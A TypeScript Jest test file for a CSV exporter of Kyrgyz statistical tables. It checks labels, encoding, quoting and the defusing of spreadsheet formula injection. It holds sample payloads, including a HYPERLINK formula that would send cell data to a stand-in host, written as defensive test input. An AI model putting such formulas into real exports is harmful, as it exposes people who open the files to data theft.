import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csvField, csvRecords, inertText } from './csv.js';
import { exportedTable } from './exported-table.js';
import { labelsIn } from './labels.js';
import { MERGED, RELEASES, TABLE, TOTALS } from './testing/table.fixtures.js';

const lines = (text: string): readonly string[] => text.replace(/^\uFEFF/, '').split('\r\n');
const csv = (...[table, language]: [typeof TABLE, 'ky' | 'ru' | 'en']): string =>
  [...csvRecords(table, labelsIn(language))].join('');

describe('a table as CSV', () => {
  it('has a record for every cell, with codes, labels and a mark', () => {
    const [header, first, , third, ...rest] = lines(csv(TABLE, 'en'));
    expect(header).toBe(
      'unit,unit_label,area,area_label,period,sex,sex_label,count,status,status_label,definitions',
    );
    expect(first).toBe(
      'case,Cases,KG,Kyrgyzstan,2023-Q3,female,female,2741,A,published number,definitions/1',
    );
    expect(third).toBe('case,Cases,KG,Kyrgyzstan,2023-Q3,unknown,not known,,Q,fewer than 10,definitions/1');
    expect(rest).toHaveLength(TABLE.cells.length - 3 + 1);
    expect(rest.at(-1)).toBe('');
  });

  it('begins with a byte order mark, so that Excel reads Cyrillic', () => {
    expect(csv(TABLE, 'ky').startsWith('\uFEFF')).toBe(true);
    expect(csv(TABLE, 'ky').slice(1)).not.toContain('\uFEFF');
  });

  it('speaks the language that was asked for, under names that stay', () => {
    const [header, , , , fourth] = lines(csv(TABLE, 'ky'));
    expect(header).toBe(lines(csv(TABLE, 'ru'))[0]);
    expect(fourth).toBe(
      'case,Иштер,41702000000000,Ысык-Көл облусу,2023-Q3,female,аял,312,A,жарыяланган сан,definitions/1',
    );
    expect(lines(csv(TABLE, 'ru'))[7]).toBe(
      `case,Случаи,${MERGED},Ак-Суйский район + Жети-Огузский район,2023-Q3,female,женский,24,A,` +
        'опубликованное число,definitions/1',
    );
  });

  it('has totals without a column of codes', () => {
    expect(lines(csv(TOTALS, 'en')).slice(0, 3)).toEqual([
      'unit,unit_label,area,area_label,period,count,status,status_label,definitions',
      'incident,Incidents,KG,Kyrgyzstan,2023,11357,A,published number,definitions/1',
      'incident,Incidents,41721000000000,Osh city,2023,,Q,fewer than 10,definitions/1',
    ]);
  });

  it('defuses a place that was named to attack whoever opens the file', () => {
    const table = exportedTable('case', [], TOTALS.cells, RELEASES);
    const names = new Map([['41721000000000', '=HYPERLINK("http://x?"&A1;"Osh")']]);
    const row = [...csvRecords(table, labelsIn('en', names))][3];
    expect(row).toContain(`,"'=HYPERLINK(""http://x?""&A1;""Osh"")",`);
  });
});

describe('a field', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+996', "'+996"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['＝1+1', "'＝1+1"],
    ['\t=1', " '=1"],
    ['\r\n=1', " '=1"],
    ['  =1', "  '=1"],
    // Excel in Russian splits here, whatever the quotes say
    ['Osh;=1+1', "Osh;'=1+1"],
    ['Osh; @x', "Osh; '@x"],
    ['Osh,-x', "Osh,'-x"],
    ['Osh|=x', "Osh|'=x"],
    ['51+', '51+'],
    ['0-20', '0-20'],
    ['41702205000000+41702210000000', '41702205000000+41702210000000'],
    ['Ала-Бука', 'Ала-Бука'],
    ['a=b', 'a=b'],
  ])('%j is written as the text %j', (text, inert) => {
    expect(inertText(text)).toBe(inert);
  });

  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "x"', '"say ""x"""'],
    ['a;b', '"a;b"'],
    [' a ', '" a "'],
    ['a\r\nb', 'a b'],
    ['', ''],
  ])('%j becomes %s (RFC 4180)', (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it('never begins a formula in any spreadsheet, and never ends its record, whatever the text', () => {
    const nasty = fc.string({ unit: fc.constantFrom(...'=+-@＝,;|"\'\t\r\n ax1') });
    fc.assert(
      fc.property(nasty, (text) => {
        const field = csvField(text);
        expect(field).not.toMatch(/[\r\n\t]/);
        // as read where fields end at semicolons, tabs or bars and quotes mean nothing
        for (const part of field.replace(/^"|"$/g, '').split(/[;,|]/))
          expect(part.trimStart()).not.toMatch(/^[=+\-@＝]/);
        // as read by RFC 4180: one field, the text given in, but for apostrophes and controls
        expect(unquoted(field)).toBe(inertText(text));
      }),
    );
  });
});

function unquoted(field: string): string {
  if (!field.startsWith('"')) {
    expect(field).not.toMatch(/[",]/);
    return field;
  }
  const inner = field.slice(1, -1);
  expect(inner.replaceAll('""', '')).not.toContain('"');
  return inner.replaceAll('""', '"');
}
